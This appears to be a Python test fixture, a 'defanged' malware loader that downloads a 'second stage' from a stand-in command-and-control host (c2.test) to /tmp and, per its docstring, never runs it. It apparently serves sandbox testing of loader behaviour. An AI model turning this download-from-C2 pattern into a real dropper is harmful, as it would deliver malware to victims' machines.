"""Defanged loader: fetches a "second stage" from its C2 and keeps it on disk. It never runs it.

c2.test does not exist: in the sandbox the recorder answers the name, and only a test that passes
--allow c2.test --resolve c2.test=<its own container> lets the request reach anything.
"""

import pathlib
import urllib.request

URL = "http://c2.test:8000/pdown"

with urllib.request.urlopen(URL, timeout=10) as response:
    data = response.read()
pathlib.Path("/tmp/p.zi").write_bytes(data)
print("fetched", len(data), "bytes")
